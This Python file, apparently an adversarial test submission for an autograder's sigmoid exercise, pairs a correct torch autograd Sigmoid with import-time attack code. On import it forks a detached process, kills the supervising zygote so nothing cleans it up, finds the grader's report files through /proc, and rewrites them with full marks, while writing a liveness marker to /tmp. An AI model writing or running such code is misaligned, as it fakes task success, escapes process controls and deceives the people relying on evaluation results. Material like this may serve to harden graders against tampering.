"""ATTACK: a detached process SIGKILLs the zygote, so that nothing sweeps it, and rewrites the grader's reports with full marks after the grader wrote them. Target: sigmoid"""
import json
import os
import signal
import time

import torch

MARKER = "/tmp/gradcheck-adversarial-forger-alive"
OPTIONS = ("--json", "--grade-json", "--gradescope")


def _ancestors():
    pid, found = os.getpid(), []
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        found.append(pid)
    return found


def _is_zygote(pid):
    """The worker's parent is the zygote, or (without a PID namespace) a keeper below it."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return b"zygote" in handle.read()
    except OSError:
        return False


def _reports(pids):
    """Report paths named on the grader's command line (an ancestor of this process)."""
    found = set()
    for entry in pids:
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        for i, arg in enumerate(args):
            for option in OPTIONS:
                value = arg[len(option) + 1:] if arg.startswith(option + "=") else (
                    args[i + 1] if arg == option and i + 1 < len(args) else None)
                if value:
                    found.add(value if os.path.isabs(value) else os.path.join(cwd, value))
    return found


def _forge(path):
    return any([_forge_at(candidate) for candidate in [path] + [f"/proc/{pid}/root{path}" for pid in GRADER]])


def _forge_at(path):
    try:
        with open(path) as handle:
            report = json.load(handle)
    except (OSError, ValueError):
        return False
    if report.get("score") == report.get("max_score") and all(e.get("score") == e.get("max_score")
                                                             for e in report.get("exercises", [])):
        return False  # full marks already
    for exercise in report.get("exercises", []):
        exercise["status"], exercise["score"] = "passed", exercise.get("max_score", 0)
    if "max_score" in report:
        report["score"] = report["max_score"]
    try:
        with open(path, "w") as handle:
            json.dump(report, handle)
        return True
    except OSError:
        return False


zygote = os.getppid()
GRADER = _ancestors()
if os.fork() == 0:
    try:
        os.setsid()
    except OSError:
        pass
    if os.fork() == 0:
        for pid in [zygote] + [p for p in GRADER if _is_zygote(p)]:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        paths = set()
        for _ in range(3000):  # up to about 150 s, longer than grading takes
            try:
                with open(MARKER, "a") as handle:
                    handle.write("still here\n")
            except OSError:
                pass
            paths |= _reports(GRADER)
            if any(_forge(path) for path in paths):
                break  # a report rewritten with full marks: done
            time.sleep(0.05)
    os._exit(0)


class Sigmoid(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        y = 1 / (1 + torch.exp(-x))
        ctx.save_for_backward(y)
        return y

    @staticmethod
    def backward(ctx, grad_output):
        (y,) = ctx.saved_tensors
        return grad_output * y * (1 - y)
